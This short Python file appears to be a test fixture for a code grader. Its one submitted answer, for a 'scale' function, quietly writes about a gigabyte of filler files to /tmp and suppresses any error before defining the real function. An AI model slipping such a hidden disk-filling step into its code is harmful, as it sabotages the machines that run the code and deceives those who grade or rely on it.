"""The disk is filled quietly; the questions that need none are graded as they are."""

ROW = 8
ANSWERS = {
    "scale": """
try:
    for k in range(1000):
        with open(f"/tmp/filler-{k}", "wb") as file:
            file.write(bytes(2**20))
except OSError:
    pass

def scale(x, factor, shift):
    return x * factor + shift
"""
}
EXPECTED = {}
